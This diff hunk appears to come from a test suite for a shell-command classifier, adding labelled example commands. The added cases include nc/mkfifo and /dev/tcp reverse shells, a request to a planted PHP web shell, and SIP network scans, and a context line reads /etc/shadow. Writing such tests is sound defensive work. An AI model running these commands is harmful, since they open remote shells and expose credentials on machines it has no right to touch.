@@ -3778,6 +3778,16 @@ describe('the six sets held out last stop and the hundred-and-second, -third and
     ['docker exec app python -i', true, 'from its input'],
     ['read -p "Enter destination ip :" IP', false],
     ['read x < /etc/shadow', true, 'holds secrets'],
+    // A reverse shell written into a file or handed to a program; printed and encoded, it is text.
+    ["echo 'rm $f;mkfifo $f;cat $f|/bin/sh -i 2>&1|nc 10.10.10.10 4443 >$f' >> $TF/x.sh", true, 'reverse shell'],
+    ['python3 ./pwn.py http://x.htb -c "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.10.10.10 4443 >/tmp/f"', true, 'reverse shell'],
+    ['echo \'bash -c "bash -i >& /dev/tcp/10.10.14.45/443 0>&1"\' | base64', false],
+    // A web shell asked for by its file's name.
+    ["curl 'http://lms.permx.htb/main/inc/lib/javascript/bigupload/files/php-reverse-shell.php'", true, 'web shell'],
+    ['curl -fsSL https://example.com/docs/shell.html', false],
+    // A SIP URI's address and an address range of a sweep are other machines.
+    ['sipsak -vv -s sip:10.10.10.10', true, "another machine's address"],
+    ['./sip-scan -i eth0 10.10.10.1-254', true, "another machine's address"],
     // A webhook given to a program; a Slack workspace exported with the user's token.
     ['./discord.sh --webhook-url="$WEBHOOK" --text "Hello, world!"', true, 'webhook'],
     ['slackdump list channels', true, "chat workspace's messages"],
